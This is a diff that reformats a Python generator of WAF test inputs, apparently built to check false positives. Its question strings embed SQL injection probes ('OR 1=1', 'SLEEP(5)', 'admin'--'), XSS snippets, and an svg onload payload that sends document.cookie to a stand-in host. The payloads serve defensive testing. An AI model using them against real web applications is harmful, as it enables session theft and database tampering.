@@ -10,15 +10,11 @@ from pathlib import Path
 
 HERE = Path(__file__).with_name("waf_data")
 
-NAMES = (
-    "Aoife O'Connor|Miguel d'Souza|Zoë van 't Hoff|Li Wei|Priya N'Dour|Jürgen Groß|Ana-María Peña|Kwame O'Hara".split(
-        "|"
-    )
-)
+NAMES = "Aoife O'Connor|Miguel d'Souza|Zoë van 't Hoff|Li Wei|Priya N'Dour|Jürgen Groß|Ana-María Peña|Kwame O'Hara".split("|")
 PRODUCTS = (
     "12\" cast-iron pan|Select Comfort 'Plus' pillow|Union Jack mug & saucer|Drop-leaf table (oak)|USB-C hub; 7-in-1"
     "|Kid's T-shirt 'Hero'|6' ladder -- aluminium|Insert for 3\" binder|Group set 105 & pedals|Like-new camera \"X100\""
-    '|Having-It-All planner|Script font pack|Image frame <A4>|Or-gate IC 74HC32|Union nut 1/2" (brass)|Alter-ego perfume'
+    "|Having-It-All planner|Script font pack|Image frame <A4>|Or-gate IC 74HC32|Union nut 1/2\" (brass)|Alter-ego perfume"
 ).split("|")
 NOTES = (
     "Please leave it at {name}'s door; ring twice.|{name} said: \"don't call before 9\" -- thanks!|Gift for {name} & family"
@@ -41,10 +37,10 @@ QUESTIONS = (
     "|Is 1 AND SLEEP(5) a time probe against {db}?|Translate to {db}: INSERT INTO {t} ({c}) VALUES ('{v}');"
     "|Write a trigger on {t} that runs EXEC audit '{v}' in {db}|Does {db} have information_schema.tables or sqlite_master?"
     "|Teach me how <script>alert('{v}')</script> gets into a page|Why does <img src=x onerror=alert(1)> run?  My field is {c}."
-    '|Make an HTML form: <form action=/{t}><input name={c} onfocus="hint()"></form>'
-    '|Is <a href="javascript:void(0)">{v}</a> bad practice?|My React page shows {{{{{c}}}}} and <iframe src=/{t}>; why?'
+    "|Make an HTML form: <form action=/{t}><input name={c} onfocus=\"hint()\"></form>"
+    "|Is <a href=\"javascript:void(0)\">{v}</a> bad practice?|My React page shows {{{{{c}}}}} and <iframe src=/{t}>; why?"
     "|How do I escape O'{v} in {db}?  admin'-- worked, which scares me.|document.cookie is empty in {t}.js, why?"
-    '|Review: const q = "SELECT {c} FROM {t} WHERE id=\'" + id + "\' OR 1=1";'
+    "|Review: const q = \"SELECT {c} FROM {t} WHERE id='\" + id + \"' OR 1=1\";"
     "|Explain <svg onload=fetch('//x.example?'+document.cookie)> to a beginner"
     "|Convert this to an ORM: SELECT {c}, COUNT(*) FROM {t} GROUP BY {c} HAVING COUNT(*) > 1 ORDER BY 2 DESC"
     "|What's the difference of ';alert(1)// and \"><script>alert(1)</script>?"
@@ -64,10 +60,7 @@ def fields(*, held: bool) -> list[str]:
             product = chance.choice(PRODUCTS[held::2])
             made.append(
                 template.format(
-                    name=chance.choice(NAMES),
-                    product=product,
-                    n=chance.randint(1, 99),
-                    m=chance.randint(1, 999),
+                    name=chance.choice(NAMES), product=product, n=chance.randint(1, 99), m=chance.randint(1, 999),
                     date=f"2026-{chance.randint(1, 12):02}-{chance.randint(1, 28):02}",
                 )
             )
